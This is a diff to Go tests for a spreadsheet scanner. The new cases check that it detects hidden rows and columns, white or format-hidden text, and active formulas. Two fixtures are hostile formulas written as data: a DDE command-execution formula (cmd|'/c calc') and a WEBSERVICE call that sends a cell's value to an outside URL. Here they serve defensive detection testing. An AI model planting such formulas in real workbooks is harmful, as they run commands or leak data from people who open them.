@@ -21,6 +21,14 @@ func book(t testing.TB, sheets, sheet string, others ...string) []byte {
 		"xl/sharedStrings.xml", `<sst><si><t>region</t></si><si><r><t>pati</t></r><r><t>ents</t></r></si><si><t>North &amp; South</t></si><si><t>West</t></si></sst>`}, others...)...)
 }
 
+// styles have a plain format, white text, white text on blue, one that shows nothing of
+// a number, and white by the theme.
+const styles = `<styleSheet><numFmts><numFmt numFmtId="164" formatCode=";;;"/><numFmt numFmtId="165" formatCode="0;;0"/></numFmts>` +
+	`<fonts><font><color theme="1"/></font><font><color rgb="FFFFFFFF"/></font><font><color theme="0"/></font></fonts>` +
+	`<fills><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="solid"><fgColor rgb="FF0000FF"/></patternFill></fill></fills>` +
+	`<cellStyleXfs><xf fontId="1" fillId="0"/></cellStyleXfs>` +
+	`<cellXfs><xf numFmtId="165" fontId="0" fillId="0"/><xf fontId="1" fillId="0"/><xf fontId="1" fillId="1"/><xf numFmtId="164" fontId="0" fillId="0"/><xf fontId="2" fillId="0"/></cellXfs></styleSheet>`
+
 const shownSheet = `<sheet name="a" sheetId="1"/>`
 
 // counts is a sheet of shared texts and numbers.
@@ -38,6 +46,17 @@ func TestWorkbooksAreLookedInto(t *testing.T) {
 		"hidden sheet":     {book(t, shownSheet+`<sheet name="b" sheetId="2" state="veryHidden"/>`, plain), []string{"hidden.sheet"}},
 		"hidden row":       {book(t, shownSheet, strings.Replace(plain, `<row r="1"`, `<row r="1" hidden="1"`, 1)), []string{"hidden.sheet"}},
 		"hidden column":    {book(t, shownSheet, strings.Replace(plain, `<sheetData>`, `<cols><col min="3" max="4" hidden="true"/></cols><sheetData>`, 1)), []string{"hidden.sheet"}},
+		"flat row":         {book(t, shownSheet, strings.Replace(plain, `<row r="1"`, `<row r="1" ht="0.1" customHeight="1"`, 1)), []string{"hidden.sheet"}},
+		"narrow column":    {book(t, shownSheet, strings.Replace(plain, `<sheetData>`, `<cols><col min="3" max="4" width="0.05" customWidth="1"/></cols><sheetData>`, 1)), []string{"hidden.sheet"}},
+		"low row":          {book(t, shownSheet, strings.Replace(plain, `<row r="1"`, `<row r="1" ht="6" customHeight="1"`, 1)), []string{}},
+		"white text":       {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="1" `, 1), "xl/styles.xml", styles), []string{"hidden.text"}},
+		"white on blue":    {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="2" `, 1), "xl/styles.xml", styles), []string{}},
+		"format of a void": {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="3" `, 1), "xl/styles.xml", styles), []string{"hidden.text"}},
+		"black text":       {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="0" `, 1), "xl/styles.xml", styles), []string{}},
+		"theme's white":    {book(t, shownSheet, strings.Replace(plain, `<c `, `<c s="4" `, 1), "xl/styles.xml", styles), []string{"hidden.text"}},
+		"exchange in cell": {book(t, shownSheet, strings.Replace(plain, `<is>`, `<f>cmd|'/c calc'!A1</f><is>`, 1)), []string{"active.macro"}},
+		"asks the network": {book(t, shownSheet, strings.Replace(plain, `<is>`, `<f>WEBSERVICE("https://x/"&amp;A1)</f><is>`, 1)), []string{"active.formula"}},
+		"sum":              {book(t, shownSheet, strings.Replace(plain, `<is>`, `<f>SUM(A1:A3)&amp;"|"&amp;Sheet2!A1</f><is>`, 1)), []string{}},
 		"pivot cache":      {book(t, shownSheet, plain, "xl/pivotCache/pivotCacheRecords1.xml", `<pivotCacheRecords><r><n v="3"/></r><r/></pivotCacheRecords>`), []string{"hidden.pivot_cache"}},
 		"empty cache":      {book(t, shownSheet, plain, "xl/pivotCache/pivotCacheRecords1.xml", `<pivotCacheRecords count="0"/>`), []string{}},
 		"external link":    {book(t, shownSheet, plain, "xl/externalLinks/externalLink1.xml", `<externalLink/>`), []string{"hidden.external_link"}},
